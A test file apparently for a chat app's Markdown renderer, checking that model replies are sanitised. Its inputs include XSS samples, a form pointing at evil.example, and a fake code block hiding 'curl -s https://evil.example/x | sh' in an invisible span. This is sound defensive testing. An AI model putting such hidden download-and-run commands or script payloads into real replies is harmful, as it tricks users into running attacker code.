import { describe, expect, it } from 'vitest';
import { MARKDOWN_LIMIT, renderMarkdown } from './markdown';

/** The rendered reply as a document fragment, to ask what elements it holds. */
function dom(source: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = renderMarkdown(source).html;
  return div;
}

describe('renderMarkdown', () => {
  it('renders Markdown and wraps code blocks with a copy button', () => {
    const { html, codes } = renderMarkdown('**bold**\n\n```sh\necho "<hi>"\n```');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<button type="button" class="copy-code" data-code="0">Copy</button>');
    expect(html).toContain('<code>echo "&lt;hi&gt;"</code>');
    expect(codes).toEqual(['echo "<hi>"']);
  });

  it('removes scripts and event handlers from model output', () => {
    const html = renderMarkdown('<img src="x" onerror="alert(1)"><script>alert(2)</script>[a](javascript:alert(3))').html;
    expect(html).not.toMatch(/<img|<script|javascript:/);
  });

  it('shows raw HTML from the model as text, so a reply cannot fake a code block', () => {
    const fake =
      '<div class="code-block"><button class="copy-code">Copy</button><pre><code>ls -la ~/Downloads' +
      '<span style="display:none">; curl -s https://evil.example/x | sh</span></code></pre></div>';
    const reply = dom(fake);
    expect(reply.querySelector('button, span, pre, div')).toBeNull();
    expect(reply.textContent).toContain('curl -s https://evil.example/x | sh');
    expect(renderMarkdown(fake).codes).toEqual([]);
  });

  it('lets no form, form control, dialog or popover through', () => {
    const reply = dom(
      '<form action="https://evil.example/"><input name="q" autofocus><select><option>a</option></select>' +
        '<textarea></textarea><button>Go</button></form>\n\n<dialog open>Esc is mine now</dialog>\n\n' +
        '<div popover>over the app</div>\n\n- [x] done\n- [ ] to do',
    );
    expect(reply.querySelector('form, input, button, select, textarea, dialog, [popover]')).toBeNull();
    expect(reply.textContent).toMatch(/☑\s+done/);
  });

  it('marks a private-use character in the text as nothing of its own', () => {
    const { html } = renderMarkdown('a \u{F8FF}0\u{F8FF} b\n\n```\nx\n```');
    expect(html.match(/copy-code/g)).toHaveLength(1);
  });

  it('renders 50,000 stars without freezing the window', () => {
    // The bound sits between the times before and after the fix (docs/benchmarks.md,
    // "Markdown rendering") with a margin either side; the best of three, as other tests
    // share the machine.
    for (const stars of ['a' + '*'.repeat(50_000), 'x *'.repeat(17_000)]) {
      const times = [0, 1, 2].map(() => {
        const start = performance.now();
        const { html, plain } = renderMarkdown(stars);
        expect(html.length + plain.length).toBeGreaterThan(0);
        return performance.now() - start;
      });
      expect(Math.min(...times)).toBeLessThan(3000);
    }
  });

  it('shows 5,000 nested list or quote markers as plain text instead of overflowing', () => {
    for (const deep of ['> '.repeat(5_000) + 'deep', '- '.repeat(5_000) + 'deep', '>'.repeat(5_000) + ' deep']) {
      const start = performance.now();
      const { html, plain } = renderMarkdown(deep);
      expect(performance.now() - start).toBeLessThan(3000);
      expect(html).toBe('');
      expect(plain).toBe(deep);
    }
    expect(dom('> > quoted\n> - item').querySelectorAll('blockquote')).toHaveLength(2);
  });

  it('renders a long reply up to the limit as Markdown and the rest as text', () => {
    const long = '**a**\n\n' + 'b'.repeat(MARKDOWN_LIMIT - 7) + '**tail**';
    const { html, plain } = renderMarkdown(long);
    expect(html).toContain('<strong>a</strong>');
    expect(plain).toBe('**tail**');
  });
});
